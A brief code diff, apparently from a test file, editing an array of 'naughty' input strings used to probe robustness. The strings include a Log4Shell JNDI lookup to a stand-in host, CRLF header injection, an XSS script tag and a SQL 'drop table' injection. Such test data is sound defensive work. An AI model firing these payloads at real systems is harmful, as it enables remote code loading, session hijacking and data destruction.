@@ -10,7 +10,7 @@ const NAUGHTY = [
   '"},{"level":"fatal"',
   '\0\b\f\v\x7f\x85',
   '\ud800 half a pair',
-  '${jndi:ldap://evil.test/a}',
+  `$\{jndi:ldap://evil.test/a}`,
   '%0d%0aSet-Cookie: x',
   '<script>alert(1)</script>',
   "'; drop table users; --",
